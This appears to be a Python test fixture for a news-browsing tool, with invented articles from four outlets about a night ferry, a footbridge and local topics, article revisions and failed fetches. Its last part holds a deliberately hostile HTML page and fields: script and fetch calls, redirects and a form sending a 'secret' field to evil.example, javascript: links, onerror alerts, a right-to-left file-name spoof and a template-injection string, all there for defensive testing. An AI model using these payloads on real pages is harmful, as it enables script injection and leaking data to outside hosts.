"""Articles of four invented outlets over five days of November 2026, and URLs that failed."""

from dataclasses import replace
from datetime import timedelta

from tasks.values.rows import Outcome
from tests.browse.filling import EVIL, HOUR, NOW, NoPrint, Print

DAY = timedelta(days=1)

FERRY = (
    "The night ferry between Sund and the outer isles will sail again from Friday, five weeks after its rudder was torn "
    "off by a drifting net.\n"
    "Divers fitted the new rudder on Tuesday, and the trial across the strait took 94 minutes. The harbour office said that "
    "all 212 berths are open for booking. Fares stay as they were in October.\n"
    "“We carried bread and post in fishing boats,” said Ingrid Vale, who keeps the shop on Lesser Holm. “Nobody went hungry. "
    "But nobody slept well either.”\n"
    "The line had been cut on 24 October, in the first storm of the season. Its owner puts the damage at 1.3 million crowns "
    "and wants half of it from the trawler whose net it was. The trawler’s owner has not answered.\n"
    "On Saturday the school band of Greater Holm will play on the pier. The first boat arrives at 6.40 in the morning."
)
BRIDGE = (
    "The footbridge over the Arne will close for eleven weeks in spring, the town council decided on Thursday by 14 votes "
    "to 9.\n"
    "Rust has eaten a third of the steel in two of its six hangers. Until then no more than forty people may cross at the "
    "same time, and stewards will count them on market days.\n"
    "A floating bridge would cost 480,000 crowns and was rejected. Walkers will be led along the railway embankment, which "
    "makes the way to the hospital nine minutes longer."
)
SHORT = (
    "{} Work begins in March and should end before the summer.\n"
    "The committee heard eleven speakers, four of them against. Most asked who would pay for it, and when.\n"
    "A second reading is planned for the ninth of December. Until then the plans hang in the town hall, on the second floor."
)
TOPICS = (
    ("tribune", "library-roof", "The library gets a new roof, and a reading garden under it", "Culture", 2.2),
    ("gazette", "bus-nine", "Bus line 9 will run every ten minutes", "Town", 3.4),
    ("post", "wasserwerk", "Das Wasserwerk misst jetzt jede Stunde statt einmal am Tag", "Stadt", 4.1),
    ("tribune", "apple-harvest", "Late frost, few apples: growers count their losses", "Economy", 7.5),
    ("gazette", "night-clinic", "Night clinic moves to the old post office", "Health", 20.0),
    ("post", "glasfaser", "Glasfaser bis in den letzten Hof: 600 Kilometer bis Ostern", "Wirtschaft", 22.3),
    ("tribune", "chess-final", "Fourteen-year-old wins the chess final in 61 moves", "Sport", 26.8),
    ("gazette", "lighthouse", "The lighthouse keeper’s logbooks are read aloud, all 11,000 pages", "Culture", 29.0),
    ("post", "markthalle", "Die Markthalle öffnet auch am Sonntag", "Stadt", 31.5),
    ("gazette", "river-swim", "River swim postponed: the water is too high", "Sport", 45.2),
    ("tribune", "teachers", "Six teachers for two villages: the school that would not close", "Education", 47.0),
    ("post", "nachtzug", "Der Nachtzug hält wieder in Sund", "Verkehr", 50.4),
    ("gazette", "peat-bog", "What the peat bog remembers of 4,000 winters", "Science", 52.1),
    ("tribune", "bakery-strike", "Bakers strike for two mornings; rye bread runs out", "Economy", 69.9),
    ("gazette", "tram-stop", "The tram stop that no map shows", "Town", 71.6),
    ("post", "kinderchor", "Der Kinderchor singt im Wasserturm", "Kultur", 76.0),
    ("tribune", "harbour-vote", "Council votes on the harbour’s new cranes", "Town", 94.0),
    ("gazette", "first-snow", "First snow on the Hallan, three weeks early", "Weather", 97.5),
)


def _topic(source: str, slug: str, title: str, section: str, ago_h: float) -> Print:
    at = NOW - timedelta(hours=ago_h)
    return Print(
        source=source, slug=slug, title=title, section=section, published_at=at, fetched_at=at + timedelta(minutes=14),
        text=SHORT.format(f"{title}."), language="de" if source == "post" else "en",
        authors=("Mira Holt",) if source == "gazette" else ("Jonas Brandt",),
    )  # fmt: skip


def _ferry(source: str, slug: str, title: str, ago_h: float, text: str = FERRY, **changes: object) -> Print:
    at = NOW - timedelta(hours=ago_h)
    values = {"published_at": at, "fetched_at": at + timedelta(minutes=11), "story": "night-ferry", "section": "Region"}
    return Print(source=source, slug=slug, title=title, text=text, **(values | changes))


_BRIDGE_AT = NOW - timedelta(hours=27)
_BRIDGE = Print(
    source="gazette", slug="footbridge", title="Footbridge over the Arne to close for eleven weeks", text=BRIDGE, section="Town",
    published_at=_BRIDGE_AT, fetched_at=_BRIDGE_AT + timedelta(minutes=9), authors=("Mira Holt",),
)  # fmt: skip

PRINTS = [
    *(_topic(*topic) for topic in TOPICS),
    _ferry("wire", "night-ferry", "Night ferry to the outer isles sails again from Friday", 12.6, authors=("The Wire",)),
    _ferry(
        "gazette", "ferry-is-back", "After five weeks, the night ferry is back", 11.1, of="night-ferry",
        lede="A rudder, a drifting net and 212 berths: the outer isles have their boat again.", authors=("Mira Holt",),
    ),
    _ferry("tribune", "isles-ferry", "Outer isles: the boat sails from Friday", 9.8, of="night-ferry", score=0.86,
           text=FERRY.replace("On Saturday the school band of Greater Holm will play on the pier. ", "")),
    _ferry("herald", "ferry-friday", "Night ferry sails again", 6.2, of="night-ferry", score=0.79, published_at=None,
           text=FERRY.rpartition("\n")[0]),
    _BRIDGE,
    replace(
        _BRIDGE, revision=2, fetched_at=_BRIDGE_AT + HOUR, changes=("figures",),
        text=BRIDGE.replace("14 votes to 9", "14 votes to 8").replace("480,000", "520,000"),
    ),
    replace(
        _BRIDGE, revision=3, fetched_at=_BRIDGE_AT + 6 * HOUR, changes=("title", "words"),
        title="Footbridge over the Arne to close in spring",
        text=BRIDGE.replace("14 votes to 9", "14 votes to 8").replace("480,000", "520,000")
        + "\nCorrection: an earlier version gave the council’s votes and the price of a floating bridge wrongly.",
    ),
]  # fmt: skip

NO_PRINTS = [
    NoPrint(source="tribune", slug="gone-story", reason="http_404", outcome=Outcome.FAILED, state="dropped", status=404,
            captured_at=NOW - 2 * HOUR),
    NoPrint(source="post", slug="langsam", reason="timed_out", outcome=Outcome.FAILED, state="due", status=None,
            captured_at=NOW - 3 * HOUR, detail="no answer within 15 s"),
    NoPrint(source="post", slug="abo", reason="paywall", outcome=Outcome.SKIPPED, state="dropped", status=200,
            captured_at=NOW - 5 * HOUR),
    NoPrint(source="herald", slug="private/list", reason="robots_disallowed", outcome=Outcome.SKIPPED, state="dropped",
            status=None, captured_at=NOW - 9 * HOUR),
    NoPrint(source="gazette", slug="gallery-of-the-year", reason="extractor_timed_out", outcome=Outcome.QUARANTINED,
            state="quarantined", status=200, captured_at=NOW - 30 * HOUR),
]  # fmt: skip

HOSTILE_PAGE = """<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=http://evil.example/refreshed">
<base href="http://evil.example/"><link rel="dns-prefetch" href="//dns.evil.example"><link rel="preconnect" href="//pre.evil.example">
<link rel="stylesheet" href="http://evil.example/a.css"><link rel="prefetch" href="http://evil.example/next">
<script src="http://evil.example/a.js"></script><script>top.document.title='owned';fetch('http://evil.example/f')</script>
<style>@import url("http://evil.example/i.css"); body{background:url(http://evil.example/bg.png)} @font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>
</head><body onload="top.location='http://evil.example/onload'" background="http://evil.example/b.png" style="font-family:x">
<h1>Storm over the isles</h1><img src="http://evil.example/p.png" srcset="http://evil.example/p2.png 2x" onerror="alert(1)" alt="A storm">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="A dot">
<form action="http://evil.example/form" id="f"><input name="secret" autofocus value="x"><button formaction="http://evil.example/b">Send</button></form>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object><embed src="http://evil.example/e">
<video src="http://evil.example/v.mp4" poster="http://evil.example/poster.png" autoplay></video>
<svg><image href="http://evil.example/s.png"/><script>document.title='owned'</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<a href="javascript:document.title='owned'">one</a> <a href="http://evil.example/link" ping="http://evil.example/ping">two</a> <a href="#end">three</a>
<p>The storm reached the isles at noon.</p><p id="end">It was gone by three.</p></body></html>"""

HOSTILE = [
    Print(
        source="herald", slug="storm", title=f'Storm {EVIL}"><img src=x onerror=alert(1)>\u202egnp.exe {{{{7*7}}}}', html=HOSTILE_PAGE,
        text=f"The storm reached the isles at noon. {EVIL}\nIt was gone by three. <img src=http://evil.example/t.png>",
        authors=(EVIL, "javascript:alert(1)"), section=EVIL, lede=EVIL, language='en" onload="alert(1)',
        published_at=NOW - HOUR, fetched_at=NOW - HOUR / 2,
    ),
]  # fmt: skip

HOSTILE_NO = [
    NoPrint(source="herald", slug=f"x?{EVIL}", reason="bad_response", outcome=Outcome.FAILED, state="dropped", status=200,
            captured_at=NOW - HOUR, detail=f"{EVIL}\u202e", announced_title=EVIL),
]  # fmt: skip
